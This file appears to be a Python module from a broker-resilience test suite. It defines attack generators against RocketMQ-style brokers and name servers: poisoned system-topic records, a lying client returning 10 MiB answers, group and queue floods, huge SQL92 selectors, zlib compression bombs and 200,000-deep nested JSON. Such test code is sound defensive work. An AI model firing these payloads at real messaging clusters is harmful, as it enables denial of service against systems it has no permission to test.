"""Attacks by messages, groups and questions of clients: rows X3 to X7, X24 and X25."""

from __future__ import annotations

import json
import select
import socket
import struct
import time
import zlib
from collections.abc import Iterator
from itertools import count, cycle

from rmqha.testing.real import wire
from tests.attacks.attacker import ONEWAY, Run, frame
from tests.attacks.deciding import a_topic, registration

MIB = 1 << 20
GROUPS_A_BEAT = 5_000
MINUSES = "-" * 65_000
ANDS = " AND ".join(["a IS NOT NULL"] * 6_500)
COMPRESSED = 1
ANSWER = 1
BIG_ANSWER_BYTES = 10 * MIB
DEEP = 200_000
GHOSTS, GHOST_QUEUES = 40, 65_536


def a_send(topic: str, properties: str, body: bytes, flag: int = 0, **fields: object) -> bytes:
    """A 310 with the short names of its fields."""
    short = {
        "a": "attackers", "b": topic, "c": "TBW102", "d": 4, "e": 0, "f": 0,
        "g": int(time.time() * 1000), "h": 0, "i": properties, "j": 0, "k": False, "m": False,
        **fields,
    }  # fmt: skip
    return frame(310, short, body, flag=flag)


def _texts(**properties: str) -> str:
    return "".join(f"{name}\x01{value}\x02" for name, value in properties.items())


def _poison(cluster: str) -> Iterator[tuple[str, str, bytes]]:
    """Topic, properties and body of records that some service cannot read."""
    now = int(time.time() * 1000)
    for name in ("a/b", "x" * 300, ""):
        timed = _texts(REAL_TOPIC=name, REAL_QID="0", TIMER_OUT_MS=str(now))
        yield "rmq_sys_wheel_timer", timed, b"timer"
        yield "SCHEDULE_TOPIC_XXXX", _texts(REAL_TOPIC=name, REAL_QID="-7", DELAY="2"), b"delay"
        half = _texts(REAL_TOPIC=name, REAL_QID="9" * 40, TRAN_MSG="true", PGROUP="g")
        yield "RMQ_SYS_TRANS_HALF_TOPIC", half, b"half"
    revive = f"rmq_sys_REVIVE_LOG_{cluster}"
    broken = {
        "bm": 0, "bn": "b", "c": "g", "t": "a/b", "so": -(1 << 62), "pt": 1 << 63, "it": 1 << 62,
        "q": 1 << 31, "n": 127, "d": list(range(1 << 14)),
    }  # fmt: skip
    for kind in ("ck", "ack", "bAck"):
        yield revive, _texts(TAGS=kind), json.dumps(broken).encode()
        yield revive, _texts(TAGS=kind), b'{"so":1e400,"d":[' + b"[" * 900
    yield "rmq_sys_METADATA", "", b"\xff" * 100
    yield "RMQ_SYS_TRANS_OP_HALF_TOPIC", _texts(TAGS="d"), b"9" * 1000


def system_records(run: Run) -> None:
    """X3 and X4: send what services would read to their topics; and delays of all kinds to one's
    own, which is nobody else's business: one-way, so that answers are those of the former."""
    target = run.target

    def shots() -> Iterator[tuple[str, bytes]]:
        while True:
            for topic, properties, body in _poison(target.cluster_name):
                for broker in target.brokers:
                    yield broker, a_send(topic, properties, body)
            for name, value in (("DELAY", "-3"), ("TIMER_DELIVER_MS", "9" * 30),
                                ("TIMER_DELAY_SEC", "x"), ("DELAY", "99999999999")):  # fmt: skip
                yield (
                    target.master,
                    a_send(target.own_topic, _texts(**{name: value}), b"later", ONEWAY),
                )

    run.fire(shots())


def lying_client(run: Run) -> None:
    """X5: join a group, have the broker ask (307), and answer 10 MiB under a code of one's own;
    have assignments (400) made for a topic with millions of queues."""
    target = run.target
    client = "192.0.2.1@attacker"
    group = {
        "groupName": target.own_group, "consumeType": "CONSUME_PASSIVELY",
        "messageModel": "CLUSTERING", "consumeFromWhere": "CONSUME_FROM_LAST_OFFSET",
        "unitMode": False, "subscriptionDataSet": [
            {"topic": target.own_topic, "subString": "*", "tagsSet": [], "codeSet": [],
             "subVersion": 1, "classFilterMode": False, "expressionType": "TAG"}],
    }  # fmt: skip
    beat = {"clientID": client, "producerDataSet": [], "consumerDataSet": [group]}
    queues = a_topic("MillionsOfQueues", GHOST_QUEUES)
    ghosts = cycle(range(GHOSTS))
    member: socket.socket | None = None
    while run.pace():
        if member is None:
            member = run.dial(target.master)
            if member is None:
                continue
            member.sendall(frame(34, {}, json.dumps(beat).encode()))
            run.tally.sent += 1
        asked = {"consumerGroup": target.own_group, "clientId": client, "jstackEnable": True}
        run.shoot(target.master, frame(307, asked))
        if not _lie(run, member):
            run.tally.closed += 1
            member.close()
            member = None
        for server in target.namesrv:
            name = f"ghost-{next(ghosts)}"
            run.shoot(server, registration(name, target.cluster_name, "192.0.2.1:1", 0, queues))
        assign = {
            "topic": "MillionsOfQueues", "consumerGroup": target.own_group, "clientId": client,
            "strategyName": "AVG", "messageModel": "CLUSTERING",
        }  # fmt: skip
        run.shoot(target.master, frame(400, {}, json.dumps(assign).encode()))
    if member is not None:
        member.close()
    run.close()


def _lie(run: Run, member: socket.socket) -> bool:
    """Answer each question that has come, with what is no answer; whether one is still let in."""
    while select.select([member], [], [], 0.05)[0]:
        try:
            head = member.recv(8, socket.MSG_WAITALL)
            if len(head) < 8:
                return False
            total, packed = struct.unpack(">II", head)
            rest = member.recv(total - 4, socket.MSG_WAITALL)
            header = json.loads(rest[: packed & 0xFFFFFF])
            if header.get("flag", 0) & ANSWER:
                continue
            lie = wire.encode(70_000, {"x": "y" * 1000}, bytes(BIG_ANSWER_BYTES),
                              header["opaque"], ANSWER)  # fmt: skip
            member.settimeout(2)
            member.sendall(lie)
        except (OSError, ValueError):
            return False
        run.tally.sent += 1
        run.tally.sent_bytes += len(lie)
    return True


def many_groups(run: Run) -> None:
    """X6: heartbeats with thousands of new groups each, then the lists (206, 224)."""
    target = run.target

    def shots() -> Iterator[tuple[str, bytes]]:
        for number in count():
            groups = [
                {"groupName": f"flood-{number}-{one}", "consumeType": "CONSUME_PASSIVELY",
                 "messageModel": "CLUSTERING", "consumeFromWhere": "CONSUME_FROM_LAST_OFFSET",
                 "unitMode": False, "subscriptionDataSet": []}
                for one in range(GROUPS_A_BEAT)
            ]  # fmt: skip
            beat = {"clientID": f"c{number}", "producerDataSet": [], "consumerDataSet": groups}
            yield target.master, frame(34, {}, json.dumps(beat).encode())
            for server in target.namesrv:
                yield server, frame(206)
                yield server, frame(224, {"cluster": target.cluster_name})

    run.fire(shots())


def selectors(run: Run) -> None:
    """X7: pulls with SQL92 of 64 KB, and heartbeats that subscribe with it."""
    target = run.target

    def shots() -> Iterator[tuple[str, bytes]]:
        for text in cycle((MINUSES, ANDS, "(" * 60_000, "NOT " * 16_000)):
            fields = {
                "consumerGroup": target.own_group, "topic": target.own_topic, "queueId": 0,
                "queueOffset": 0, "maxMsgNums": 32, "sysFlag": 4, "commitOffset": 0,
                "suspendTimeoutMillis": 100, "subscription": text, "subVersion": 1,
                "expressionType": "SQL92",
            }  # fmt: skip
            yield target.master, frame(11, fields)
            check = {"clientId": "c", "group": target.own_group, "subscriptionData": {
                "topic": target.own_topic, "subString": text, "tagsSet": [], "codeSet": [],
                "subVersion": 1, "classFilterMode": False, "expressionType": "SQL92"}}  # fmt: skip
            yield target.master, frame(46, {}, json.dumps(check).encode())

    run.fire(shots())


def growing_bodies(run: Run) -> None:
    """X24: compressed messages and registrations that grow a thousandfold when they are read."""
    target = run.target
    message = zlib.compress(bytes(4 * MIB), 9)
    head = struct.pack(">i", 2) + b"{}" + struct.pack(">i", 1)
    registered = zlib.compress(head + bytes(80 * MIB), 1)
    fields = {
        "brokerName": "grows", "brokerAddr": "192.0.2.1:2", "clusterName": target.cluster_name,
        "haServerAddr": "192.0.2.1:3", "brokerId": 0, "compressed": True,
    }  # fmt: skip

    def shots() -> Iterator[tuple[str, bytes]]:
        while True:
            for _ in range(20):
                yield target.master, a_send(target.own_topic, "", message, f=COMPRESSED)
            for server in target.namesrv:
                yield server, frame(103, fields, registered)

    run.fire(shots())


def deep_json(run: Run) -> None:
    """X25: headers and bodies nested two hundred thousand deep, and frames that are none."""

    def shots() -> Iterator[tuple[str, bytes]]:
        nested = b"[" * DEEP
        objects = b'{"a":' * 50_000
        header = b'{"code":1005,"extFields":' + objects
        deep = struct.pack(">II", 4 + len(header), len(header)) + header
        for code in cycle((34, 103, 1001, 1006, 41, 222, 400, 3001, 17)):
            for at in run.target.servers:
                yield at, frame(code, {"brokerName": run.target.broker_name}, nested)
                yield at, frame(code, {}, objects, flag=ONEWAY)
                yield at, deep
                yield at, b"\xff" * 64

    run.fire(shots())
